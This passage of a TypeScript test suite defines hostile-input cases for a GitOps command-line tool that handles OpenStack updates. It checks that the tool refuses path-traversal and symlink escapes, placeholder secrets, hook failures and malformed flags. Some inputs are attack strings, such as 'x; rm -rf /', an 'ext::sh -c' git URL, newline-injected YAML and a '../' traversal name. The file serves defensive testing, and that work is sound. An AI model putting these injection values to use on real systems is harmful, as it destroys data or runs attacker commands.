add({ id: 'own render --out repo/.git/hooks', item: 'own', fixture: EXAMPLE, expect: E.outputInvalid, setup: (sb) => ({ argv: ['render', ...sb.inputArgs, '--out', 'repo/.git/hooks', '--json'] }) });
add({
  id: 'own render --out where updates/ is a symlink to outside/',
  item: 'own',
  fixture: EXAMPLE,
  expect: E.outputInvalid,
  setup: (sb) => {
    symlinkSync('../outside', join(sb.out, 'updates'));
    return { argv: argv('render', sb) };
  },
});
add({
  id: 'own render --out where updates/<target> is a symlink to outside/',
  item: 'own',
  fixture: EXAMPLE,
  expect: E.outputInvalid,
  setup: (sb) => {
    mkdirSync(join(sb.out, 'updates'));
    symlinkSync('../../outside', join(sb.out, 'updates', TARGET));
    return { argv: argv('render', sb) };
  },
});
add({
  id: '6 render --out /proc/self/fdinfo/x (hung at full CPU)',
  item: '6',
  fixture: EXAMPLE,
  expect: { exit: [1, 2], codes: ['OUTPUT_INVALID', 'PATH_UNSAFE', 'WRITE_FAILED', 'INPUT_NOT_FOUND'], why: 'a folder no one can write: a clear error, at once' },
  setup: (sb) => ({ argv: ['render', ...sb.inputArgs, '--out', '/proc/self/fdinfo/x', '--json'], spawn: { timeoutMs: 15_000 } }),
});
add({
  id: '6 render --out a read-only folder',
  item: '6',
  fixture: EXAMPLE,
  expect: E.readOnly,
  setup: (sb) => {
    const env = openForNobody(sb);
    return { argv: argv('render', sb), env, spawn: { asNobody: true } };
  },
});
add({
  id: '6 commit into a read-only repository',
  item: '6',
  fixture: EXAMPLE,
  expect: E.readOnly,
  setup: (sb) => {
    const env = openForNobody(sb);
    return { argv: ['commit', ...sb.inputArgs, '--repo', 'repo', '--all', '--date', DATE, '--json'], env, spawn: { asNobody: true } };
  },
});
add({
  id: '6 --pr-dir is a regular file (after the branches were made)',
  item: '6',
  fixture: EXAMPLE,
  expect: E.outputInvalid,
  setup: (sb) => {
    writeFileSync(join(sb.dir, 'prs-file'), 'not a folder\n');
    return { argv: ['commit', ...sb.inputArgs, '--repo', 'repo', '--branch-per-phase', '--all', '--pr-dir', 'prs-file', '--push', '--date', DATE, '--json'] };
  },
});
add({
  id: 'own --pr-dir inside repo/.git',
  item: 'own',
  fixture: EXAMPLE,
  expect: E.outputInvalid,
  setup: (sb) => ({ argv: ['commit', ...sb.inputArgs, '--repo', 'repo', '--branch-per-phase', '--all', '--pr-dir', 'repo/.git/prs', '--date', DATE, '--json'] }),
});
add({ id: '6 plan --output nodir/plan.json', item: '6', fixture: EXAMPLE, expect: E.outputMissingParent, setup: (sb) => ({ argv: ['plan', ...sb.inputArgs, '--output', 'nodir/plan.json'] }) });
add({ id: 'own plan --output is a folder', item: 'own', fixture: EXAMPLE, expect: E.outputInvalid, setup: (sb) => ({ argv: ['plan', ...sb.inputArgs, '--output', 'outside'] }) });
add({ id: 'own plan --output repo/.git/config', item: 'own', fixture: EXAMPLE, expect: E.outputInvalid, setup: (sb) => ({ argv: ['plan', ...sb.inputArgs, '--output', 'repo/.git/config'] }) });

// --- item 3: secrets
const SECRET_VALUES = {
  become: 'Bec0me-9f1c2e7a',
  ssh: 'SshPass-5d2b81c4',
  mysql: 'mysql+pymysql://heat:Hp4ss-7b1e@db/heat',
  rabbit: 'rabbit://user:Rp4ss-3c9d@rabbitmq.openstack.svc:5672/',
  annotation: 'QW5ub3RhdGVkU2VjcmV0LTQ0ZTE=',
  token: 'tok-8c1d0b2e6f3a',
  registry: 'https://robot:Reg-6e2a9d@registry.example.com',
  privateKey: 'MIIEowIBAAKCAQEAsecretkeymaterial1f2e',
  staged: 'U3RhZ2VkLXNlY3JldC0xYjJj',
};
const SECRET_JSON = JSON.stringify({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'osp-secret' }, data: { AdminPassword: SECRET_VALUES.annotation } });
const customServiceConfig = (line: string) => `[DEFAULT]\ndebug = true\n${line}\n[oslo_messaging_notifications]\ndriver = noop\n`;
const SECRET_INPUTS: readonly { label: string; value: string; mutate: (sb: Sandbox) => void; cmds: readonly Cmd[]; item: string }[] = [
  { label: 'ansible_become_pass in nodeTemplate ansibleVars', value: SECRET_VALUES.become, item: '3', cmds: ['render', 'commitAll', 'bpp'], mutate: (sb) => editDoc(nodesetFile(sb), (d) => (obj(obj(obj(obj(d, 'spec'), 'nodeTemplate'), 'ansible'), 'ansibleVars')['ansible_become_pass'] = SECRET_VALUES.become)) },
  {
    label: 'ansible_ssh_pass in a node’s ansibleVars',
    value: SECRET_VALUES.ssh,
    item: '3',
    cmds: ['render', 'commitAll'],
    mutate: (sb) => editDoc(nodesetFile(sb), (d) => (obj(obj(obj(obj(obj(d, 'spec'), 'nodes'), 'compute-a-0'), 'ansible'), 'ansibleVars')['ansible_ssh_pass'] = SECRET_VALUES.ssh)),
  },
  { label: 'mysql+pymysql URL with a password in customServiceConfig', value: 'Hp4ss-7b1e', item: '3', cmds: ['render', 'commitAll', 'bpp'], mutate: (sb) => editDoc(inputFile(sb, 'controlplane.yaml'), (d) => (obj(obj(obj(d, 'spec'), 'nova'), 'template')['customServiceConfig'] = customServiceConfig(`connection = ${SECRET_VALUES.mysql}`))) },
  { label: 'rabbit:// URL with a password in customServiceConfig', value: 'Rp4ss-3c9d', item: '3', cmds: ['render', 'commitAll'], mutate: (sb) => editDoc(inputFile(sb, 'controlplane.yaml'), (d) => (obj(obj(obj(d, 'spec'), 'neutron'), 'template')['customServiceConfig'] = customServiceConfig(`transport_url = ${SECRET_VALUES.rabbit}`))) },
  {
    label: 'Secret JSON inside a control plane annotation',
    value: SECRET_VALUES.annotation,
    item: '3',
    cmds: ['render', 'commitAll'],
    mutate: (sb) => editDoc(inputFile(sb, 'controlplane.yaml'), (d) => (obj(obj(d, 'metadata'), 'annotations')['backup.example.com/last-known-secret'] = SECRET_JSON)),
  },
  {
    label: 'Secret YAML inside a nodeset annotation',
    value: SECRET_VALUES.annotation,
    item: 'own',
    cmds: ['commitAll'],
    mutate: (sb) => editDoc(nodesetFile(sb), (d) => (obj(obj(d, 'metadata'), 'annotations')['example.com/backup'] = `apiVersion: v1\nkind: Secret\nmetadata:\n  name: x\nstringData:\n  password: ${SECRET_VALUES.annotation}\n`)),
  },
  { label: 'a *token* ansible variable', value: SECRET_VALUES.token, item: 'own', cmds: ['commitAll'], mutate: (sb) => editDoc(nodesetFile(sb), (d) => (obj(obj(obj(obj(d, 'spec'), 'nodeTemplate'), 'ansible'), 'ansibleVars')['edpm_registry_token'] = SECRET_VALUES.token)) },
  { label: 'an https URL with user-info in ansibleVars', value: 'Reg-6e2a9d', item: 'own', cmds: ['commitAll'], mutate: (sb) => editDoc(nodesetFile(sb), (d) => (obj(obj(obj(obj(d, 'spec'), 'nodeTemplate'), 'ansible'), 'ansibleVars')['edpm_container_registry_url'] = SECRET_VALUES.registry)) },
  { label: 'a *_password key in a control plane template', value: SECRET_VALUES.token, item: 'own', cmds: ['commitAll'], mutate: (sb) => editDoc(inputFile(sb, 'controlplane.yaml'), (d) => (obj(obj(obj(d, 'spec'), 'glance'), 'template')['admin_password'] = SECRET_VALUES.token)) },
  {
    label: 'a private key block in customServiceConfig',
    value: SECRET_VALUES.privateKey,
    item: 'own',
    cmds: ['commitAll'],
    mutate: (sb) => editDoc(inputFile(sb, 'controlplane.yaml'), (d) => (obj(obj(obj(d, 'spec'), 'glance'), 'template')['customServiceConfig'] = `[DEFAULT]\nssl_key = -----BEGIN RSA PRIVATE KEY-----\n  ${SECRET_VALUES.privateKey}\n  -----END RSA PRIVATE KEY-----\n`)),
  },
];
perCommand({
  id: '3 secret: Secret JSON in kubectl.kubernetes.io/last-applied-configuration (dropped or refused)',
  item: '3',
  expect: { exit: [0, 1], codes: ['SECRET_REFUSED'], why: 'the annotation kubectl writes may be dropped from what we carry, or refused; never written' },
  secret: { value: SECRET_VALUES.annotation },
  mutate: (sb) => editDoc(inputFile(sb, 'controlplane.yaml'), (d) => (obj(obj(d, 'metadata'), 'annotations')['kubectl.kubernetes.io/last-applied-configuration'] = SECRET_JSON)),
}, ['render', 'commitAll']);
for (const s of SECRET_INPUTS) perCommand({ id: `${s.item} secret: ${s.label}`, item: s.item, expect: E.secret, secret: { value: s.value }, mutate: s.mutate }, s.cmds);

const USER_SECRET = `apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n  namespace: openstack\ndata:\n  password: ${SECRET_VALUES.staged}\n`;
for (const cmd of ['commit', 'commitAll', 'bpp', 'versionFile'] as const) {
  add({
    id: `3 a kind: Secret file the user staged never reaches the remote [${cmd}]`,
    item: '3',
    fixture: EXAMPLE,
    expect: E.stagedByUser,
    mayChange: OWNS[cmd],
    secret: { value: SECRET_VALUES.staged, userFiles: ['repo/secrets/db.yaml'], userStaged: true },
    setup: (sb) => {
      writeRepoFile(sb, 'secrets/db.yaml', USER_SECRET);
      userGit(sb.repo, 'add', 'secrets/db.yaml');
      return { argv: argv(cmd, sb, cmd === 'commit' ? ['--push'] : []) };
    },
  });
}
add({
  id: '3 an unrelated staged README edit is not pushed inside the phase commit',
  item: '3',
  fixture: EXAMPLE,
  expect: E.stagedByUser,
  mayChange: OWNS.commitAll,
  secret: { value: 'half-written-draft-7e1f', userFiles: ['repo/README.md'], userStaged: true },
  setup: (sb) => {
    writeRepoFile(sb, 'README.md', 'our GitOps repository\nhalf-written-draft-7e1f\n');
    userGit(sb.repo, 'add', 'README.md');
    return { argv: argv('commitAll', sb) };
  },
});
add({
  id: '3 a kind: Secret file staged inside the owned folder is never pushed',
  item: '3',
  fixture: EXAMPLE,
  expect: { exit: [1], codes: ['GIT_DIRTY', 'SECRET_REFUSED'], why: 'the owned folder has staged changes of the user: refuse before anything moves' },
  secret: { value: SECRET_VALUES.staged, userFiles: ['repo/openstack-update/db.yaml'], userStaged: true },
  setup: (sb) => {
    writeRepoFile(sb, 'openstack-update/db.yaml', USER_SECRET);
    userGit(sb.repo, 'add', 'openstack-update/db.yaml');
    return { argv: argv('commitAll', sb) };
  },
});
const SCANNER = 'echo "secret scanner: found a password in the staged files" >&2\nexit 1';
for (const [hookName, cmd] of [['pre-commit', 'commitAll'], ['commit-msg', 'commitAll'], ['pre-commit', 'commit'], ['pre-commit', 'bpp']] as const) {
  add({
    id: `3 the user's ${hookName} hook (a secret scanner) refuses [${cmd}]`,
    item: '3',
    fixture: EXAMPLE,
    expect: E.hookRejected,
    setup: (sb) => {
      hook(join(sb.repo, '.git', 'hooks'), hookName, SCANNER);
      return { argv: argv(cmd, sb, cmd === 'commit' ? ['--push'] : []) };
    },
  });
}
add({
  id: "7 a commit-msg hook that refuses only the second phase: --all commits nothing",
  item: '7',
  fixture: EXAMPLE,
  expect: E.hookRejected,
  setup: (sb) => {
    hook(join(sb.repo, '.git', 'hooks'), 'commit-msg', 'if grep -q "ovn-dataplane" "$1"; then echo "policy: no data-plane change on Fridays" >&2; exit 1; fi\nexit 0');
    return { argv: argv('commitAll', sb) };
  },
});
add({
  id: "own the user's pre-push hook refuses: local branch as it was",
  item: 'own',
  fixture: EXAMPLE,
  expect: E.pushRefused,
  setup: (sb) => {
    hook(join(sb.repo, '.git', 'hooks'), 'pre-push', 'echo "pre-push: not today" >&2\nexit 1');
    return { argv: argv('commitAll', sb) };
  },
});

// --- item 7: errors that left something behind
add({ id: '7 --date not-a-date', item: '7', fixture: EXAMPLE, expect: E.dateInvalid, setup: (sb) => ({ argv: ['commit', ...sb.inputArgs, '--repo', 'repo', '--all', '--push', '--date', 'not-a-date', '--json'] }) });
add({ id: 'own --date 2026-13-45T99:00:00Z', item: 'own', fixture: EXAMPLE, expect: E.dateInvalid, setup: (sb) => ({ argv: ['commit', ...sb.inputArgs, '--repo', 'repo', '--all', '--date', '2026-13-45T99:00:00Z', '--json'] }) });
add({ id: 'own --date not-a-date with --branch-per-phase', item: 'own', fixture: EXAMPLE, expect: E.dateInvalid, setup: (sb) => ({ argv: ['commit', ...sb.inputArgs, '--repo', 'repo', '--branch-per-phase', '--all', '--date', 'not-a-date', '--json'] }) });
add({
  id: '7 a leftover .git/index.lock',
  item: '7',
  fixture: EXAMPLE,
  expect: E.locked,
  mayChange: OWNS.commitAll,
  setup: (sb) => {
    writeFileSync(join(sb.repo, '.git', 'index.lock'), '');
    return { argv: argv('commitAll', sb) };
  },
});
add({
  id: '7 --branch newbr with a dirty owned path: no branch switch',
  item: '7',
  fixture: EXAMPLE,
  // committing to newbr without touching the work tree is as good as refusing; switching HEAD is not
  expect: { exit: [0], codes: [], why: 'commit to newbr without checking it out: the dirty work tree is not involved' },
  mayChange: ['refs'],
  setup: (sb) => {
    writeRepoFile(sb, 'openstack-update/notes.yaml', 'my: notes\n');
    return { argv: argv('commitAll', sb, ['--branch', 'newbr']) };
  },
});
add({
  id: 'own a dirty --version-file',
  item: 'own',
  fixture: EXAMPLE,
  expect: E.dirty,
  setup: (sb) => {
    writeRepoFile(sb, USER_OSV_PATH, USER_OSV.replace('# the platform', '# edited, not committed, the platform'));
    return { argv: argv('versionFile', sb) };
  },
});
add({
  id: '7 a rejected push (pre-receive hook on the remote)',
  item: '7',
  fixture: EXAMPLE,
  expect: E.pushRefused,
  setup: (sb) => {
    hook(join(sb.remote, 'hooks'), 'pre-receive', 'echo "policy: pushes to main need a review" >&2\nexit 1');
    return { argv: argv('commitAll', sb) };
  },
});
add({
  id: '7 a rejected push (pre-receive hook) with --branch-per-phase',
  item: '7',
  fixture: EXAMPLE,
  expect: E.pushRefused,
  setup: (sb) => {
    hook(join(sb.remote, 'hooks'), 'pre-receive', 'echo "policy: no new branches" >&2\nexit 1');
    return { argv: argv('bpp', sb) };
  },
});
add({ id: '7 --push to a remote name that does not exist', item: '7', fixture: EXAMPLE, expect: E.remoteMissing, setup: (sb) => ({ argv: ['commit', ...sb.inputArgs, '--repo', 'repo', '--all', '--push', 'nosuch', '--date', DATE, '--json'] }) });
add({
  id: 'own origin points at a repository that does not exist',
  item: 'own',
  fixture: EXAMPLE,
  expect: { exit: [1, 2], codes: ['GIT_PUSH_REFUSED', 'GIT_REMOTE_INVALID', 'GIT_FAILED'], why: 'the push cannot happen: refuse, and keep the local branch as it was' },
  setup: (sb) => {
    git(sb.repo, 'remote', 'set-url', 'origin', '../missing.git');
    return { argv: argv('commitAll', sb) };
  },
});

// --- item 8: flags that are not what they claim
for (const v of ['-1', '1.5', 'abc', '0x1', '']) {
  add({ id: `8 --phase ${v}`, item: '8', fixture: EXAMPLE, expect: E.phaseInvalid, setup: (sb) => ({ argv: argv('commit', sb, ['--phase', v]) }) });
}
/** An Argo CD render with a valid --repo-url, or the hostile one given. */
const argoRender = (sb: Sandbox, extra: readonly string[], repoUrl = REPO_URL) => ['render', ...sb.inputArgs, '--engine', 'argocd', '--repo-url', repoUrl, '--out', 'out', '--json', ...extra];
add({ id: "8 --gate-image 'x; rm -rf /'", item: '8', fixture: EXAMPLE, expect: E.imageInvalid, setup: (sb) => ({ argv: argoRender(sb, ['--gate-image', 'x; rm -rf /']) }) });
add({ id: 'own --gate-image with a newline', item: 'own', fixture: EXAMPLE, expect: E.imageInvalid, setup: (sb) => ({ argv: argoRender(sb, ['--gate-image', 'quay.io/x/kubectl:1\n  command: [sh]']) }) });
add({ id: '8 --repo-url with a newline', item: '8', fixture: EXAMPLE, expect: E.urlInvalid, setup: (sb) => ({ argv: argoRender(sb, [], 'https://git.example.com/ops.git\nkind: Secret') }) });
add({ id: 'own --repo-url with credentials', item: 'own', fixture: EXAMPLE, expect: E.urlInvalid, setup: (sb) => ({ argv: argoRender(sb, [], 'https://ci:Url-p4ss-1a2b@git.example.com/ops.git') }) });
add({ id: 'own --repo-url ext::sh -c', item: 'own', fixture: EXAMPLE, expect: E.urlInvalid, setup: (sb) => ({ argv: argoRender(sb, [], 'ext::sh -c touch% /tmp/pwned') }) });
add({ id: 'own --revision with a newline', item: 'own', fixture: EXAMPLE, expect: { exit: [2], codes: ['USAGE', 'INPUT_INVALID', 'NAME_INVALID', 'URL_INVALID'], why: 'a Git revision has a grammar too' }, setup: (sb) => ({ argv: argoRender(sb, ['--revision', 'main\nkind: Secret']) }) });
add({ id: 'own --argo-namespace Bad_NS/../x', item: 'own', fixture: EXAMPLE, expect: E.nameInvalid, setup: (sb) => ({ argv: argoRender(sb, ['--argo-namespace', 'Bad_NS/../x']) }) });
add({ id: 'own --flux-namespace ../../outside', item: 'own', fixture: EXAMPLE, expect: E.nameInvalid, setup: (sb) => ({ argv: ['render', ...sb.inputArgs, '--out', 'out', '--json', '--flux-namespace', '../../outside'] }) });
for (const b of ['-x', 'main..x', 'a b', 'HEAD', 'x.lock']) {
  add({ id: `own --branch ${b}`, item: 'own', fixture: EXAMPLE, expect: E.usage, setup: (sb) => ({ argv: argv('commitAll', sb, ['--branch', b]) }) });
}
add({ id: 'own --engine jenkins', item: 'own', fixture: EXAMPLE, expect: E.usage, setup: (sb) => ({ argv: argv('commitAll', sb, ['--engine', 'jenkins']) }) });
add({ id: 'own --attempt 0', item: 'own', fixture: EXAMPLE, expect: E.usage, setup: (sb) => ({ argv: argv('commitAll', sb, ['--attempt', '0']) }) });
add({
  id: '8 a symlinked nodeset file is refused, not skipped',
  item: '8',
  fixture: EXAMPLE,
  expect: E.symlinkedInput,
  setup: (sb) => {
    const moved = join(sb.outside, 'compute-b.yaml');
    writeFileSync(moved, readFileSync(nodesetFile(sb, 'compute-b')));
    rmSync(nodesetFile(sb, 'compute-b'));
    symlinkSync(moved, nodesetFile(sb, 'compute-b'));
    return { argv: argv('commitAll', sb) };
  },
});
add({
  id: 'own a nodeset file that is a FIFO',
  item: 'own',
  fixture: EXAMPLE,
  expect: E.inputUnreadable,
  setup: (sb) => {
    rmSync(nodesetFile(sb, 'compute-b'));
    // node has no mkfifo; coreutils has
    execFileSync('mkfifo', [nodesetFile(sb, 'compute-b')]);
    return { argv: argv('plan', sb), spawn: { timeoutMs: 15_000 } };
  },
});
add({ id: 'own --csv is a folder', item: 'own', fixture: EXAMPLE, expect: E.inputUnreadable, setup: () => ({ argv: ['plan', '--csv', 'inputs', '--openstack-version', 'inputs/openstackversion.yaml', '--json'] }) });
add({ id: 'own --openstack-version /dev/zero', item: 'own', fixture: EXAMPLE, expect: E.inputUnreadable, setup: () => ({ argv: ['plan', '--openstack-version', '/dev/zero', '--json'] }) });

// --- item 6: saved plans that are not whole
const PLAN_BREAKS: Readonly<Record<string, (p: Obj) => void>> = {
  'phases: [{index: 1}]': (p) => (p['phases'] = [{ index: 1 }]),
  'a malformed deployment': (p) => {
    for (const ph of list(p, 'phases').filter(isObj)) {
      const g = obj(ph, 'git');
      if (Array.isArray(g['deployments']) && g['deployments'].length) g['deployments'] = [42, { name: null }];
    }
  },
  'versions: null': (p) => (p['versions'] = null),
  'a forged id': (p) => (p['id'] = 'forged'),
  'an imageDiff that is a string': (p) => (p['imageDiff'] = 'nope'),
};
for (const [label, brk] of Object.entries(PLAN_BREAKS)) {
  for (const cmd of ['render', 'commitAll'] as const) {
    add({
      id: `${label === 'a forged id' ? '8' : '6'} --plan with ${label} [${cmd}]`,
      item: label === 'a forged id' ? '8' : '6',
      fixture: EXAMPLE,
      expect: label === 'a forged id' ? E.planEdited : E.planMalformed,
      setup: (sb) => {
        editPlan(sb, brk);
        return { argv: argv(cmd, sb, [], planInputs(sb)) };
      },
    });
  }
}
add({ id: 'own --plan that is not JSON', item: 'own', fixture: EXAMPLE, expect: E.planMalformed, setup: (sb) => { writeFileSync(join(sb.dir, 'plan.json'), '{"apiVersion": '); return { argv: argv('render', sb, [], planInputs(sb)) }; } });
add({
  id: 'own --plan with a nodeset renamed to escape',
  item: 'own',
  fixture: EXAMPLE,
  expect: E.planEdited,
  setup: (sb) => {
    editPlan(sb, (p) => {
      for (const n of list(p, 'nodeSets').filter(isObj)) if (n['name'] === 'compute-a') n['name'] = '../../../../../../outside/pwn-plan';
    });
    return { argv: argv('commitAll', sb, [], planInputs(sb)) };
  },
});
add({
  id: '6 status --from-files with lastTransitionTime: not-a-date',
  item: '6',
  fixture: EXAMPLE,
  expect: E.statusDate,
  setup: (sb) => {
    const file = join(sb.dir, 'dump', 'namespaces', 'openstack', 'core.yaml');
    writeFileSync(file, readFileSync(file, 'utf8').replace(/lastTransitionTime: .*/g, 'lastTransitionTime: not-a-date'));
    return { argv: ['status', '--from-files', 'dump', '--agent', 'none', '--json'] };
  },
});

// --- the failing fixtures: their own code, and nothing written
for (const fixture of fixtureNames()) {
  const exp = fixtureExpect(fixture);
  if (exp.exitCode === 0) continue;
  for (const cmd of ['commitAll'] as const) {
    add({
      id: `fixture ${fixture} [${cmd}]`,
      item: 'fixture',
      fixture,
      expect: { exit: [exp.exitCode], codes: exp.errorCode ? [exp.errorCode] : [], why: E.fixtureFailure.why },
      ...(exp.errorCode ? { exactCode: exp.errorCode } : {}),
      setup: (sb) => ({ argv: argv(cmd, sb) }),
    });
  }
}

export const HOSTILE_CASES: readonly HostileCase[] = cases;
